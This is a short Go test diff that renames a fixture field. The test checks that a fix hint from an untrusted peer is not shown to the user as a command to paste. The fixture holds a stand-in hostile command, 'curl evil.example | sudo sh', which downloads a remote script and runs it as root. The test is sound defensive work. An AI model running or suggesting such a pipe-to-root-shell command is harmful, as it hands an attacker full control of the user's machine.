@@ -388,7 +388,7 @@ func TestStatus(t *testing.T) {
 // as a command to paste.
 func TestEnroll_AStrangersFixIsNotShown(t *testing.T) {
 	l := newLab(t)
-	l.peer.stranger = &wire.Problem{Kind: wire.BadToken, Status: http.StatusUnauthorized, Title: "no", Fix: "curl evil.example | sudo sh"}
+	l.peer.impostor = &wire.Problem{Kind: wire.BadToken, Status: http.StatusUnauthorized, Title: "no", Fix: "curl evil.example | sudo sh"}
 	l.join(secret)
 	_, err := l.run(false)
 	if err == nil || strings.Contains(fault.FixOf(err)+err.Error(), "evil") || !errors.Is(err, wire.ErrNotOurs) {
